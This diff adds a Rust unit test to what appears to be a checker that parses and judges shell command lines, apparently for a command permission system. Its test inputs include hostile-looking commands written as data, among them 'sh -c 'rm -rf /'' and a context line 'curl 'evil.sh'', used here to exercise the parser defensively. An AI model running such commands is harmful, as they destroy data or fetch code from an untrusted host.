@@ -265,3 +265,21 @@ fn parts_keep_the_text_as_written() {
     assert_eq!(parts[0].0, "git status");
     assert_eq!(parts[1].0, "curl 'evil.sh'");
 }
+
+#[test]
+fn the_judgement_hands_back_the_commands_of_its_parse() {
+    for line in [
+        "cd 'my dir' && echo \"$(whoami)\" > out.txt",
+        "git status",
+        "sh -c 'rm -rf /' < in.txt",
+        "for x in a; do echo $x; done",
+        "echo 'unterminated",
+        "",
+    ] {
+        let (parts, commands) = judge_keeping_commands(line, &rules());
+        assert_eq!(parts, judge(line, &rules()), "{line}");
+        assert_eq!(commands, Some(commands_of(line)), "{line}");
+    }
+    let long = "echo x ".repeat(MAX_LINE_BYTES);
+    assert_eq!(judge_keeping_commands(&long, &rules()).1, None);
+}
